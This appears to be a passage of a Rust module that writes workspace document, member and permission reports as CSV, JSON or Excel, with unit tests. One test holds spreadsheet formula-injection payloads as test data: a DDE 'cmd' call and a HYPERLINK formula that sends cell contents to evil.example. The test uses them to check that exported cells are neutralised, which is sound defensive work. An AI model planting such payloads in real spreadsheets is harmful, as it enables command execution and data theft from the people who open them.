impl<W: Write> Sheet<W> {
    fn new<R: Row>(out: W) -> Result<Self> {
        let mut book = rust_xlsxwriter::Workbook::new();
        let bold = rust_xlsxwriter::Format::new().set_bold();
        let sheet = book.add_worksheet();
        sheet.set_name(R::SHEET).map_err(xlsx_error)?;
        for (i, column) in R::COLUMNS.iter().enumerate() {
            sheet
                .write_string_with_format(0, i as u16, column.title, &bold)
                .map_err(xlsx_error)?;
        }
        sheet.set_freeze_panes(1, 0).map_err(xlsx_error)?;
        Ok(Sheet {
            out,
            book,
            columns: R::COLUMNS,
            next: 1,
            widths: R::COLUMNS
                .iter()
                .map(|c| match c.kind {
                    CellKind::Date => DATE_WIDTH.max(c.title.chars().count()),
                    _ => c.title.chars().count(),
                })
                .collect(),
            date: rust_xlsxwriter::Format::new().set_num_format("yyyy-mm-dd hh:mm:ss"),
        })
    }

    fn write<R: Row>(&mut self, row: &R) -> Result<()> {
        if self.next >= XLSX_MAX_ROWS {
            return Err(Error::InvalidInput(format!(
                "the report has more than {} rows, more than a worksheet holds; \
                 write it as CSV or JSON, or report fewer workspaces at a time",
                XLSX_MAX_ROWS - 1
            )));
        }
        let value = serde_json::to_value(row)
            .map_err(|e| Error::InvalidInput(format!("cannot write a row: {e}")))?;
        let at = self.next;
        let sheet = self.book.worksheet_from_index(0).map_err(xlsx_error)?;
        for (i, column) in self.columns.iter().enumerate() {
            let col = i as u16;
            let shown = match value.get(column.name) {
                None | Some(serde_json::Value::Null) => continue,
                Some(serde_json::Value::Number(n)) if column.kind != CellKind::Date => {
                    // Ids fit a double exactly up to 2^53; beyond that a
                    // number would be rounded, so it is written as text.
                    match n.as_i64() {
                        Some(v) if v.unsigned_abs() <= 1 << 53 => {
                            sheet.write_number(at, col, v as f64).map_err(xlsx_error)?;
                            v.to_string().len()
                        }
                        _ => {
                            let t = n.to_string();
                            sheet.write_string(at, col, &t).map_err(xlsx_error)?;
                            t.len()
                        }
                    }
                }
                Some(serde_json::Value::String(t)) => match (column.kind, excel_date(t)) {
                    (CellKind::Date, Some(serial)) => {
                        sheet
                            .write_number_with_format(at, col, serial, &self.date)
                            .map_err(xlsx_error)?;
                        DATE_WIDTH
                    }
                    _ => {
                        sheet
                            .write_string(at, col, cell_text(t))
                            .map_err(xlsx_error)?;
                        t.chars().count()
                    }
                },
                Some(other) => {
                    let t = other.to_string();
                    sheet
                        .write_string(at, col, cell_text(&t))
                        .map_err(xlsx_error)?;
                    t.chars().count()
                }
            };
            if let Some(w) = self.widths.get_mut(i) {
                *w = (*w).max(shown.min(XLSX_MAX_WIDTH));
            }
        }
        self.next += 1;
        Ok(())
    }

    fn finish(mut self) -> Result<W> {
        let last_row = self.next - 1;
        let last_col = self.columns.len().saturating_sub(1) as u16;
        let sheet = self.book.worksheet_from_index(0).map_err(xlsx_error)?;
        for (i, w) in self.widths.iter().enumerate() {
            sheet
                .set_column_width(i as u16, (*w + 2) as f64)
                .map_err(xlsx_error)?;
        }
        sheet
            .autofilter(0, 0, last_row, last_col)
            .map_err(xlsx_error)?;
        let bytes = self.book.save_to_buffer().map_err(xlsx_error)?;
        self.out.write_all(&bytes).map_err(io)?;
        self.out.flush().map_err(io)?;
        Ok(self.out)
    }
}

impl<W: Write> Writer<W> {
    /// Starts a report of `R` rows: writes the CSV header, opens the JSON
    /// array, or starts a workbook with its header row.
    pub fn new<R: Row>(out: W, format: Format) -> Result<Self> {
        let sink = match format {
            Format::Csv => {
                let mut w = csv::WriterBuilder::new()
                    .has_headers(false)
                    .terminator(csv::Terminator::CRLF)
                    .from_writer(out);
                w.write_record(R::HEADER).map_err(csv_error)?;
                Sink::Csv(Box::new(w))
            }
            Format::Json => {
                let mut out = out;
                out.write_all(b"[").map_err(io)?;
                Sink::Json { out, first: true }
            }
            Format::Xlsx => Sink::Xlsx(Box::new(Sheet::new::<R>(out)?)),
        };
        Ok(Writer { sink })
    }

    /// Writes one row (into the workbook, for [`Format::Xlsx`]). With
    /// [`Format::Xlsx`], a row past [`XLSX_MAX_ROWS`] is an
    /// [`Error::InvalidInput`].
    pub fn write<R: Row>(&mut self, row: &R) -> Result<()> {
        match &mut self.sink {
            Sink::Csv(w) => {
                let record = safe_record(row)?;
                w.write_record(&record).map_err(csv_error)
            }
            Sink::Json { out, first } => {
                let text = serde_json::to_string(row)
                    .map_err(|e| Error::InvalidInput(format!("cannot write a JSON row: {e}")))?;
                let lead: &[u8] = if *first { b"\n  " } else { b",\n  " };
                *first = false;
                out.write_all(lead).map_err(io)?;
                out.write_all(text.as_bytes()).map_err(io)
            }
            Sink::Xlsx(sheet) => sheet.write(row),
        }
    }

    /// Ends the report (closes the JSON array, or writes the whole
    /// workbook) and flushes; gives back the output.
    pub fn finish(self) -> Result<W> {
        match self.sink {
            Sink::Csv(w) => (*w).into_inner().map_err(|e| io(e.into_error())),
            Sink::Json { mut out, first } => {
                out.write_all(if first { b"]\n" } else { b"\n]\n" })
                    .map_err(io)?;
                out.flush().map_err(io)?;
                Ok(out)
            }
            Sink::Xlsx(sheet) => sheet.finish(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn header_of<R: Row>(row: &R) -> Vec<String> {
        let mut w = csv::Writer::from_writer(Vec::new());
        w.serialize(row).unwrap();
        let text = String::from_utf8(w.into_inner().unwrap()).unwrap();
        let mut r = csv::Reader::from_reader(text.as_bytes());
        r.headers().unwrap().iter().map(String::from).collect()
    }

    fn ws() -> WorkspaceRef {
        WorkspaceRef {
            id: 1,
            name: "W".into(),
        }
    }

    #[test]
    fn csv_cells_never_start_a_formula_and_json_stays_exact() {
        let names = [
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
            "+Ann",
            "@Org",
            "\r=1+1",
            "-2+3",
            "\t=1",
        ];
        let mut w = Writer::new::<DocumentRow>(Vec::new(), Format::Csv).unwrap();
        for (i, name) in names.iter().enumerate() {
            w.write(&DocumentRow {
                workspace_id: 1,
                workspace_name: name.to_string(),
                folder_path: format!("@{name}"),
                name: name.to_string(),
                id: i as i64,
                file_size: Some(-1),
                created_on: None,
                last_modified_on: None,
                version_number: None,
                file_hash_download: Some("=A1".into()),
                note: Some(name.to_string()),
            })
            .unwrap();
        }
        let text = w.finish().unwrap();
        let mut r = csv::Reader::from_reader(text.as_slice());
        let mut formulas = 0;
        let mut rows = 0;
        for record in r.records() {
            let record = record.unwrap();
            rows += 1;
            for cell in record.iter() {
                if cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
                    && cell.parse::<i64>().is_err()
                {
                    formulas += 1;
                }
            }
            assert_eq!(&record[3], format!("'{}", names[rows - 1]));
            assert_eq!(&record[5], "-1", "a number stays a number");
        }
        assert_eq!((rows, formulas), (7, 0));

        let mut w = Writer::new::<DocumentRow>(Vec::new(), Format::Json).unwrap();
        w.write(&DocumentRow {
            workspace_id: 1,
            workspace_name: String::new(),
            folder_path: String::new(),
            name: names[0].into(),
            id: 2,
            file_size: None,
            created_on: None,
            last_modified_on: None,
            version_number: None,
            file_hash_download: None,
            note: None,
        })
        .unwrap();
        let json: serde_json::Value = serde_json::from_slice(&w.finish().unwrap()).unwrap();
        assert_eq!(json[0]["name"], names[0]);
    }

    #[test]
    fn headers_are_the_serialized_field_names() {
        let doc = DocumentRow {
            workspace_id: 1,
            workspace_name: String::new(),
            folder_path: String::new(),
            name: String::new(),
            id: 2,
            file_size: None,
            created_on: None,
            last_modified_on: None,
            version_number: None,
            file_hash_download: None,
            note: None,
        };
        assert_eq!(header_of(&doc), DocumentRow::HEADER);
        let member = MemberRow {
            workspace_id: 1,
            workspace_name: String::new(),
            id: 2,
            user_id: None,
            email_id: String::new(),
            first_name: String::new(),
            last_name: String::new(),
            organization: String::new(),
            role_type: String::new(),
            groups: String::new(),
            first_accessed: None,
            last_accessed_on: None,
            status: String::new(),
            phase: String::new(),
        };
        assert_eq!(header_of(&member), MemberRow::HEADER);
        let access = AccessRow {
            workspace_id: 1,
            workspace_name: String::new(),
            path: String::new(),
            kind: ItemKind::Folder,
            id: 3,
            group_id: 4,
            group_name: String::new(),
            permission: PermissionPermission::See,
        };
        assert_eq!(header_of(&access), AccessRow::HEADER);
        let user = UserAccessRow {
            workspace_id: 1,
            workspace_name: String::new(),
            path: String::new(),
            kind: ItemKind::Document,
            id: 3,
            workspace_user_id: 4,
            email_id: String::new(),
            first_name: String::new(),
            last_name: String::new(),
            permission: PermissionPermission::See,
            groups: String::new(),
        };
        assert_eq!(header_of(&user), UserAccessRow::HEADER);
    }

    fn names(columns: &[Column]) -> Vec<&'static str> {
        columns.iter().map(|c| c.name).collect()
    }

    #[test]
    fn workbook_columns_are_the_header_in_order() {
        assert_eq!(names(DocumentRow::COLUMNS), DocumentRow::HEADER);
        assert_eq!(names(MemberRow::COLUMNS), MemberRow::HEADER);
        assert_eq!(names(AccessRow::COLUMNS), AccessRow::HEADER);
        assert_eq!(names(UserAccessRow::COLUMNS), UserAccessRow::HEADER);
        let dates: Vec<&str> = DocumentRow::COLUMNS
            .iter()
            .chain(MemberRow::COLUMNS)
            .filter(|c| c.kind == CellKind::Date)
            .map(|c| c.name)
            .collect();
        assert_eq!(
            dates,
            [
                "createdOn",
                "lastModifiedOn",
                "firstAccessed",
                "lastAccessedOn"
            ]
        );
    }

    #[test]
    fn excel_dates_count_days_from_1899_12_30_in_utc() {
        assert_eq!(excel_date("1970-01-01T00:00:00.000Z"), Some(25_569.0));
        // 2013-03-31 is day 41364; 12:27:56 is 44876 s into it.
        let got = excel_date("2013-03-31T12:27:56.000Z").unwrap();
        assert!(
            (got - (41_364.0 + 44_876.0 / 86_400.0)).abs() < 1e-9,
            "{got}"
        );
        assert_eq!(excel_date("1900-01-01T00:00:00.000Z"), None);
        assert_eq!(excel_date("not a date"), None);
    }

    #[test]
    fn a_workbook_refuses_a_row_past_the_sheets_last_and_cuts_long_text() {
        let mut w = Writer::new::<AccessRow>(Vec::new(), Format::Xlsx).unwrap();
        let row = AccessRow {
            workspace_id: 1,
            workspace_name: String::new(),
            path: String::new(),
            kind: ItemKind::Folder,
            id: 3,
            group_id: 4,
            group_name: String::new(),
            permission: PermissionPermission::See,
        };
        w.write(&row).unwrap();
        let Sink::Xlsx(sheet) = &mut w.sink else {
            unreachable!()
        };
        sheet.next = XLSX_MAX_ROWS;
        let e = w.write(&row).unwrap_err();
        assert!(
            matches!(&e, Error::InvalidInput(m) if m.starts_with("the report has more than 1048575 rows")),
            "{e}"
        );
        let long = "x".repeat(XLSX_MAX_CELL_CHARS + 5);
        let cut = cell_text(&long);
        assert_eq!(cut.chars().count(), XLSX_MAX_CELL_CHARS);
        assert!(cut.ends_with("x…"));
        assert_eq!(cell_text("short"), "short");
    }

    fn folder(id: i64, parent: Option<i64>, name: &str) -> types::Folder {
        serde_json::from_value(serde_json::json!({"id": id, "parentId": parent, "name": name}))
            .unwrap()
    }

    fn perm(group: i64, folder: i64, level: PermissionPermission) -> types::Permission {
        types::Permission {
            folder_id: Some(folder),
            group_id: Some(group),
            id: None,
            permission: Some(level),
        }
    }

    #[test]
    fn the_strongest_level_along_the_chain_wins_and_a_cycle_ends() {
        use PermissionPermission::*;
        // 1 ⊃ 2 ⊃ 3; 4 and 5 name each other as parent.
        let folders = [
            folder(1, None, "A"),
            folder(2, Some(1), "B"),
            folder(3, Some(2), "C"),
            folder(4, Some(5), "X"),
            folder(5, Some(4), "Y"),
        ];
        let groups: [types::Group; 1] =
            [serde_json::from_value(serde_json::json!({"id": 9, "groupName": "G"})).unwrap()];
        let perms = [
            perm(9, 1, SeeAndDownload),
            perm(9, 2, See),
            perm(9, 3, SeeDownloadAndPrint),
        ];
        let rows = access_rows(&ws(), &folders, &[], &groups, &perms);
        let got: Vec<(String, PermissionPermission)> = rows
            .iter()
            .map(|r| (r.path.clone(), r.permission))
            .collect();
        assert_eq!(
            got,
            vec![
                ("A".to_string(), SeeAndDownload),
                ("A/B".to_string(), SeeAndDownload),
                ("A/B/C".to_string(), SeeDownloadAndPrint),
            ]
        );
    }

    #[test]
    fn a_cycle_is_placed_by_the_forest_and_a_deep_chain_inherits_in_one_pass() {
        use PermissionPermission::*;
        let folders = [folder(10, Some(11), "A"), folder(11, Some(10), "B")];
        let groups: [types::Group; 1] =
            [serde_json::from_value(serde_json::json!({"id": 9, "groupName": "G"})).unwrap()];
        let rows = access_rows(&ws(), &folders, &[], &groups, &[perm(9, 10, See)]);
        let paths: Vec<&str> = rows.iter().map(|r| r.path.as_str()).collect();
        assert_eq!(paths, ["A", "A/B"]);

        let n = 100_000i64;
        let chain: Vec<types::Folder> = (1..=n)
            .map(|i| folder(i, (i > 1).then(|| i - 1), "d"))
            .collect();
        let rows = access_rows(&ws(), &chain, &[], &groups, &[perm(9, 1, SeeAndDownload)]);
        assert_eq!(rows.len(), n as usize);
        assert!(rows.iter().all(|r| r.permission == SeeAndDownload));
        let deepest = rows.iter().find(|r| r.id == n).unwrap();
        assert_eq!(deepest.path.split('/').count(), ((n - 1) % 64 + 1) as usize);
        assert!(rows.iter().all(|r| r.path.split('/').count() <= 64));
    }

    #[test]
    fn json_is_one_array_even_when_empty() {
        let w = Writer::new::<AccessRow>(Vec::new(), Format::Json).unwrap();
        assert_eq!(w.finish().unwrap(), b"[]\n");
        let w = Writer::new::<AccessRow>(Vec::new(), Format::Csv).unwrap();
        assert_eq!(
            String::from_utf8(w.finish().unwrap()).unwrap(),
            "workspaceId,workspaceName,path,type,id,groupId,groupName,permission\r\n"
        );
    }
}
